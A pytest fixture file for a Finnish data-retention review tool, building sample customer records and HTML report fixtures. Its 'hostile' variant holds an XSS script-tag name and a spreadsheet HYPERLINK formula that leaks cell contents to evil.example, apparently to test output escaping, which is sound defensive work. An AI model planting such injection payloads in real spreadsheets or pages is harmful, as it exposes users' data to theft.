"""Shared fixtures: the real sample exports, and hypothesis profiles."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from hypothesis import HealthCheck, settings

REPO = Path(__file__).resolve().parent.parent
SAMPLES = REPO.parent / "shared" / "samples"

settings.register_profile(
    "ci", max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow]
)
settings.register_profile("dev", max_examples=30, deadline=None)
settings.load_profile("ci" if os.environ.get("CI") else "dev")


def pytest_terminal_summary(terminalreporter: pytest.TerminalReporter) -> None:
    """One line that explains the skips when the real sample exports are absent."""
    if not SAMPLES.is_dir():
        terminalreporter.write_line(
            f"Note: {SAMPLES} is not beside this checkout, so the tests that read real "
            "export files from other software were skipped."
        )


@pytest.fixture(scope="session")
def samples() -> Path:
    """../shared/samples; tests that need it skip cleanly when it is absent."""
    if not SAMPLES.is_dir():
        pytest.skip("../shared/samples is not beside this checkout")
    return SAMPLES


def sample_files(folder: str, suffix: str = "") -> list[Path]:
    """The sample files of one folder, for parametrising (empty when absent)."""
    path = SAMPLES / folder
    if not path.is_dir():
        return []
    return sorted(p for p in path.iterdir() if p.is_file() and p.name.endswith(suffix))


@pytest.fixture(autouse=True)
def _no_telemetry(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DO_NOT_TRACK", "1")


# ------------------------------------------------------------- proposal runs

HOSTILE_NAME = '<script>console.error("xss")</script>Eve'
FORMULA_LABEL = '=HYPERLINK("http://evil.example/?leak="&A1,"Avaa")'


def small_review_run(  # type: ignore[no-untyped-def]
    *, hostile: bool = False, lang: str = "fi", extra_rows=(), faulty=frozenset()
):
    """A ReviewRun over a few hand-made traces under the kohonen example policy."""
    from datetime import date

    from policies.engine import evaluate
    from policies.examples import example_path
    from policies.law import load_statutory_rules
    from policies.safety import block_sources_with_errors
    from policies.schema import load_policy
    from policies.testing import make_traces
    from reports.view import ReviewRun, SourceSummary

    law = load_statutory_rules()
    policy = load_policy(example_path("kohonen"), law)
    name = HOSTILE_NAME if hostile else "Maija Mehiläinen"
    label = FORMULA_LABEL if hostile else "Tilaus 14.3.2025"
    rows = [
        # Maija: orders long past, nothing holds her: delete.
        {
            "trace_id": "tilaukset:a1",
            "source": "tilaukset",
            "register": "asiakasrekisteri",
            "kind": "order",
            "name": name,
            "email": "Maija@Example.fi",
            "event_date": "2025-03-14",
            "label": label,
            "locator": '{"file": "tilaukset.xlsx", "row": 5, "sheet": "Tilaukset"}',
        },
        {
            "trace_id": "yhteystiedot:a2",
            "source": "yhteystiedot",
            "register": "asiakasrekisteri",
            "kind": "contact",
            "name": name,
            "email": "maija@example.fi",
            "locator": '{"file": "yhteystiedot.csv", "row": 3}',
        },
        # Kalle: old orders, but an invoice in collection holds him.
        {
            "trace_id": "tilaukset:b1",
            "source": "tilaukset",
            "register": "asiakasrekisteri",
            "kind": "order",
            "name": "Kalle Könönen",
            "phone": "040 765 4321",
            "event_date": "2025-01-10",
            "locator": '{"file": "tilaukset.xlsx", "row": 6}',
        },
        {
            "trace_id": "laskut:b2",
            "source": "laskut",
            "register": "asiakasrekisteri",
            "kind": "invoice",
            "name": "Kalle Könönen",
            "phone": "+358407654321",
            "event_date": "2025-01-10",
            "status": "collection",
            "label": "Lasku 1042",
            "locator": '{"file": "laskut.csv", "row": 2, "invoice_no": "1042"}',
        },
        # Liisa: a recent order: kept.
        {
            "trace_id": "tilaukset:c1",
            "source": "tilaukset",
            "register": "asiakasrekisteri",
            "kind": "order",
            "name": "Liisa Lähde",
            "email": "liisa@example.fi",
            "event_date": "2026-10-20",
            "locator": '{"file": "tilaukset.xlsx", "row": 7}',
        },
    ]
    if hostile:
        # A person whose "name" is a spreadsheet formula, with orders long past.
        rows.append(
            {
                "trace_id": "tilaukset:d1",
                "source": "tilaukset",
                "register": "asiakasrekisteri",
                "kind": "order",
                "name": FORMULA_LABEL,
                "email": "f@example.fi",
                "event_date": "2025-02-01",
                "locator": '{"file": "tilaukset.xlsx", "row": 8}',
            }
        )
    rows.extend(extra_rows)
    traces = make_traces(rows)
    today = date(2026, 11, 1)
    evaluation = evaluate(traces, {"asiakasrekisteri": policy}, law, today)
    decisions = block_sources_with_errors(evaluation.decisions, faulty)
    return ReviewRun(
        business="Tmi <b>Testi</b>",
        registers={"asiakasrekisteri": policy.name},
        today=today,
        lang=lang,
        traces=traces,
        decisions=decisions,
        findings=evaluation.findings,
        sources=[
            SourceSummary("tilaukset", "spreadsheet", "tilaukset.xlsx", "asiakasrekisteri", 3),
            SourceSummary(
                "laskut",
                "accounting",
                "laskut.csv",
                "asiakasrekisteri",
                1,
                problems=("laskut.csv, row 9, field 'Eräpäivä': not a date",),
            ),
        ],
        workspace_key="0123456789abcdef0123456789abcdef",
    )


@pytest.fixture
def proposal_html(tmp_path: Path) -> Path:
    from reports.proposal import write_proposal

    return write_proposal(small_review_run(), tmp_path).html


@pytest.fixture
def hostile_html(tmp_path: Path) -> Path:
    from reports.proposal import write_proposal

    return write_proposal(small_review_run(hostile=True), tmp_path).html
